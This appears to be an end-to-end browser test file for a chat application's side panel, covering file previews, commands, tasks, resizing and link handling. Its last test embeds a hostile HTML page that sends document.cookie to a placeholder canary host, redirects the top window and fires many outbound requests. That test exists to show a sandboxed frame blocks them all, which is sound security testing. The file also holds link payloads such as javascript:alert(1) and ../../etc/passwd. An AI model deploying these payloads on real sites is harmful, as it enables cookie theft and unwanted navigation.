// The panel next to a conversation: closed at first, resized and closed by keys, with artifacts, files, tasks, commands and images; and a
// hostile page in it, which reaches nothing.

import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, expect, onTestFinished, test } from 'vitest';
import { looksGood } from './driver/looks.ts';
import { launchBrowser, openWindow, type WindowUnderTest } from './driver/open-window.ts';

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser.close());

const panelOf = (page: Page) => page.getByRole('complementary', { name: 'Side panel' });
const base64 = (text: string): string => Buffer.from(text).toString('base64');

async function open(window: WindowUnderTest): Promise<void> {
  await window.page.getByRole('button', { name: 'Side panel', exact: true }).click();
  await panelOf(window.page).waitFor();
}

test('it shows what a session made, changed and runs, by the keyboard alone', { timeout: 120_000 }, async () => {
  const write = { tool: 'write_file', args: { path: 'plan.md', content: '# Beans\n\n- water\n' } };
  const read = { tool: 'read_file', args: { path: 'plan.md' } };
  const serve = { tool: 'exec', args: { command: 'echo serving; sleep 120', background: true } };
  const wait = { tool: 'exec', args: { command: 'echo under way; sleep 120' } };
  const config = { policy: { rules: [{ when: { tools: ['exec', 'write_file'] }, then: 'allow' as const }] } };
  const replies = [{ calls: [write] }, { calls: [read, serve] }, { text: 'It serves.' }, { calls: [wait] }];
  const window = await openWindow(browser, { replies, config });
  const { page } = window;
  await window.send('Plan and serve');
  await window.conversation.getByText('It serves.', { exact: true }).waitFor();
  expect(await panelOf(page).count()).toBe(0);
  await page.keyboard.press('Alt+Shift+A');
  const panel = panelOf(page);
  await expect.poll(() => page.evaluate('document.activeElement?.textContent')).toBe('Side panel');
  const tab = (name: string) => panel.getByRole('group', { name: 'Side panel' }).getByRole('button', { name });

  await tab('Files').press('Enter');
  await panel.getByRole('list', { name: 'Changed' }).getByText('plan.md').waitFor();
  await looksGood(page, 'side-files');
  await panel.getByRole('button', { name: /plan\.md/ }).press('Enter');
  await panel.getByRole('heading', { name: 'Beans' }).waitFor();
  await panel.getByRole('button', { name: 'All files' }).press('Enter');
  await panel.getByRole('list', { name: 'Changed' }).waitFor();
  await window.conversation.getByRole('button', { name: 'Preview' }).press('Enter');
  await panel.getByRole('heading', { name: 'Beans' }).waitFor();
  await looksGood(page, 'side-preview');
  await tab('Commands').press('Enter');
  await panel.getByText('serving', { exact: true }).waitFor();
  await window.send('Now wait');
  await panel.getByText('under way', { exact: true }).waitFor();
  await looksGood(page, 'side-commands');
  await panel.getByRole('button', { name: /^Stop echo serving/ }).press('Enter');
  await panel.getByText('serving', { exact: true }).waitFor({ state: 'detached' });
  await tab('Tasks').press('Enter');
  await panel.getByRole('textbox').fill('Water the beans');
  await panel.getByRole('textbox').press('Enter');
  await panel.getByText('Water the beans').waitFor();
  await looksGood(page, 'side-tasks');
  await tab('Browser').press('Enter');
  await panel.getByText('Pictures that the browser takes').waitFor();

  const edge = panel.getByRole('separator', { name: 'Width of the side panel' });
  const width = async (): Promise<number> => Math.round((await panel.boundingBox())?.width ?? 0);
  const before = await width();
  await edge.press('ArrowLeft');
  await expect.poll(width).toBe(before + 40);
  const box = await edge.boundingBox();
  await page.mouse.move((box?.x ?? 0) + 2, 400);
  await page.mouse.down();
  await page.mouse.move((box?.x ?? 0) + 42, 400);
  await page.mouse.up();
  await expect.poll(width).toBe(before);
  // However wide the panel is asked to be, the conversation stays readable.
  await edge.press('End');
  await expect.poll(width).toBeGreaterThan(before);
  expect((await window.conversation.boundingBox())?.width).toBeGreaterThanOrEqual(320);
  await edge.press('Escape');
  await panel.waitFor({ state: 'detached' });
  expect(window.incidents).toEqual([]);
});

test('a file that the turn touched opens from its name in the answer; other names stay text', async () => {
  const write = { tool: 'write_file', args: { path: 'notes/plan.md', content: '# Beans\n' } };
  const read = { tool: 'read_file', args: { path: 'costs.csv' } };
  const text =
    'I wrote `notes/plan.md` ([the plan](notes/plan.md)) from **costs.csv**, not `other.md` or [more](../../etc/passwd) or [x](javascript:alert(1)).';
  const window = await openWindow(browser, {
    replies: [{ calls: [write, read] }, { text }],
    files: { 'costs.csv': 'item,amount\nRent,1200\n' },
    config: { policy: { mode: 'workspace-free' } },
  });
  const { page, conversation } = window;
  await window.send('Plan');
  const links = conversation.locator('.document').getByRole('link');
  await expect.poll(() => links.allInnerTexts()).toEqual(['notes/plan.md', 'the plan', 'costs.csv']);
  await looksGood(page, 'file-links');
  for (const link of [links.nth(0), links.nth(1)]) {
    await link.press('Enter');
    await panelOf(page).getByRole('heading', { name: 'Beans' }).waitFor();
    await page.keyboard.press('Escape');
    await panelOf(page).waitFor({ state: 'detached' });
    expect(await link.evaluate((element) => element === element.ownerDocument.activeElement)).toBe(true);
  }
  await links.last().click();
  await panelOf(page).getByRole('cell', { name: 'Rent' }).waitFor();
  await panelOf(page).getByText('as the agent last read it').waitFor();
  await panelOf(page).getByRole('button', { name: 'All files' }).click();
  await panelOf(page).getByRole('button', { name: 'costs.csv' }).waitFor();
  expect(window.incidents).toEqual([]);
});

test('documents, tables, drawings and pages are shown in place', async () => {
  const window = await openWindow(browser, { replies: [{ text: 'Seen.' }] });
  const { page } = window;
  const files = [
    ['page.html', 'text/html', '<style>h1 { color: green }</style><h1>Hello</h1><a href="#end">down</a><p id="end">End'],
    ['costs.csv', 'text/csv', 'item,amount\nRent,1200\n'],
    ['plan.md', 'text/markdown', '# The plan\n'],
  ] as const;
  const attachments = files.map(([name, mediaType, text]) => ({ name, mediaType, base64: base64(text) }));
  const { sessionId } = (await window.host.op('message.send', { text: 'Look', attachments })) as { sessionId: string };
  await page.goto(`${window.host.origin}/#/chat/${sessionId}`);
  await window.conversation.getByText('Seen.').waitFor();
  await open(window);
  const panel = panelOf(page);
  await panel.getByRole('button', { name: /plan\.md/ }).click();
  await panel.getByRole('heading', { name: 'The plan' }).waitFor();
  await panel.getByRole('button', { name: 'All artifacts' }).click();
  await panel.getByRole('button', { name: /page\.html/ }).click();
  await panel.frameLocator('iframe').getByRole('heading', { name: 'Hello' }).waitFor();
  const shown = page.frames().find((frame) => frame.url().endsWith('/page.html'));
  expect(await shown?.evaluate("getComputedStyle(document.querySelector('h1')).color")).toBe('rgb(0, 128, 0)');
  await looksGood(page, 'side-page');
  await panel.getByRole('button', { name: 'Close', exact: true }).click();
  await panel.getByRole('button', { name: /costs\.csv/ }).click();
  await panel.getByRole('cell', { name: 'Rent' }).waitFor();
  expect(window.incidents).toEqual([]);
});

/** Records every request and answers each. */
async function startCanary(page: string): Promise<{ readonly origin: string; readonly seen: string[] }> {
  const seen: string[] = [];
  const server: Server = createServer((request, response) => {
    if (request.url !== '/plain') seen.push(request.url ?? '');
    response.setHeader('content-type', request.url === '/plain' ? 'text/html' : 'text/plain');
    response.end(request.url === '/plain' ? page.replaceAll('CANARY', '') : '');
  });
  await new Promise<void>((resolve) => void server.listen(0, '127.0.0.1', resolve));
  onTestFinished(() => new Promise<void>((resolve) => void server.close(() => resolve())));
  onTestFinished(() => server.closeAllConnections());
  return { origin: `http://127.0.0.1:${(server.address() as AddressInfo).port}`, seen };
}

const hostile = `<!doctype html><html><head>
<meta http-equiv="refresh" content="0;url=CANARY/refresh"><base href="CANARY/"><link rel="stylesheet" href="CANARY/sheet">
<link rel="preconnect" href="CANARY"><link rel="prefetch" href="CANARY/prefetch">
<style>@import "CANARY/import"; body { background: url(CANARY/background) } @font-face { font-family: x; src: url(CANARY/font) } p { font-family: x }</style>
<script>fetch('CANARY/fetch?' + document.cookie); new Image().src = 'CANARY/script'; parent.stolen = 1; top.location = 'CANARY/top'</script></head>
<body onload="fetch('CANARY/onload')"><p>Hostile</p><img src="CANARY/image" onerror="fetch('CANARY/onerror')"><img src=x onerror="parent.postMessage('hi','*')">
<iframe src="CANARY/frame"></iframe><object data="CANARY/object"></object><embed src="CANARY/embed"><video src="CANARY/video" autoplay></video>
<svg><image href="CANARY/svg" /><a href="CANARY/svg-link"><text y="20">svg link</text></a></svg>
<form action="CANARY/form" method="post"><button id="send">Send</button></form>
<a id="out" href="CANARY/link" target="_top" ping="CANARY/ping">leave</a><a id="script" href="javascript:fetch('CANARY/js')">run</a></body></html>`;

test('a hostile page reaches neither the network nor the window', async () => {
  const canary = await startCanary(hostile);
  const window = await openWindow(browser, { replies: [{ text: 'Seen.' }] });
  const { page } = window;
  const html = hostile.replaceAll('CANARY', canary.origin);
  const { sessionId } = (await window.host.op('message.send', {
    text: 'Look',
    attachments: [{ name: 'hostile.html', mediaType: 'text/html', base64: base64(html) }],
  })) as { sessionId: string };
  await page.goto(`${window.host.origin}/#/chat/${sessionId}`);
  await window.conversation.getByText('Seen.').waitFor();
  await open(window);
  await panelOf(page)
    .getByRole('button', { name: /hostile\.html/ })
    .click();
  const frame = panelOf(page).frameLocator('iframe');
  await frame.getByText('Hostile').waitFor();
  for (const id of ['#send', '#out', '#script']) await frame.locator(id).click();
  expect(await page.evaluate('window.stolen')).toBe(undefined);
  expect(page.url()).toContain(`#/chat/${sessionId}`);
  await frame.getByText('Hostile').waitFor();
  expect(canary.seen).toEqual([]);
  // The browser reports what its policy refused; the canary confirms that none of it was sent.
  const refused = (incident: string): boolean =>
    incident.startsWith(`request: ${canary.origin}/`) || /Security Policy|is sandboxed/.test(incident);
  expect(window.incidents.filter((incident) => !refused(incident))).toEqual([]);

  // Control: the same page outside the frame reaches everything.
  const plain = await browser.newPage();
  onTestFinished(() => plain.close());
  await plain.goto(`${canary.origin}/plain`);
  await expect.poll(() => canary.seen.length).toBeGreaterThan(5);
});
